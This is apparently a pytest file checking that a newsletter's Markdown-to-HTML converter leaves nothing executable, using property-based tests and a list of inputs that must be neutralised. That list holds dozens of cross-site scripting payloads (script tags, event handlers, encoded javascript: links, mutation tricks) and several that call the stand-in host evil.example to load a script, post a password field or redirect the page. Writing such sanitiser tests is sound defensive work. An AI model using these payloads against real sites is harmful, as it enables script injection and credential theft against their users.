"""An editor's Markdown as HTML: whatever stands in it, nothing runs."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from newsletter.mail import markup

TAGS = {"p", "br", "em", "strong", "a", "ul", "ol", "li", "blockquote", "code"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<svg/onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "<a onmouseover=alert(1) href=https://example.org>x</a>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "</p></td></table><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/pixel.gif)',
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "[x](https://example.org/\"onmouseover='alert(1)')",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```<script>\nalert(1)\n```",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\0<script\0>alert(1)</script>",
]


class Seen(HTMLParser):
    """What a browser would make of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.oddities: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html: str) -> Seen:
    seen = Seen(html)
    assert seen.oddities == []
    for tag, attributes in seen.tags:
        assert tag in TAGS
        assert set(attributes) <= ({"href"} if tag == "a" else set())
        scheme = urlsplit((attributes.get("href") or "").strip()).scheme
        assert scheme in ("", "http", "https", "mailto")
    return seen


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs(attack):
    assert_harmless(markup.to_html(attack))


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack.startswith(("<s", "<i", "<f", "<p", "<a"))])
def test_html_is_shown_as_the_text_that_it_is(attack):
    assert Seen(markup.to_html(attack)).text.strip() == attack


@settings(deadline=None)
@given(
    st.one_of(
        st.text(max_size=60),
        st.lists(st.sampled_from([*"<>\"'[!`\n\\&= )", "](", "script", "javascript:", "&#x6a;", "on"])).map("".join),
    )
)
def test_no_text_at_all_runs(text):
    assert_harmless(markup.to_html(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        pytest.param("One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>", id="paragraphs"),
        pytest.param("*a* and **b**", "<p><em>a</em> and <strong>b</strong></p>", id="emphasis"),
        pytest.param("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>", id="a list"),
        pytest.param("> a", "<blockquote>\n<p>a</p>\n</blockquote>", id="a quote"),
        pytest.param(
            "[a](https://example.org/?b=c&d=e)", '<p><a href="https://example.org/?b=c&amp;d=e">a</a></p>', id="a link"
        ),
        pytest.param(
            "<https://example.org>", '<p><a href="https://example.org">https://example.org</a></p>', id="bare"
        ),
        pytest.param("a < b & c", "<p>a &lt; b &amp; c</p>", id="signs of HTML"),
        pytest.param("# A\n\ntext", "A\n<p>text</p>", id="a heading is left out, its words are not"),
        pytest.param("![a map](https://example.org/a.png)", "<p></p>", id="a picture is left out"),
        pytest.param("", "", id="nothing"),
    ],
)
def test_what_an_editor_may_write(text, html):
    assert markup.to_html(text) == html


def test_a_template_does_not_escape_it_again():
    assert isinstance(markup.to_html("*a*"), Markup)
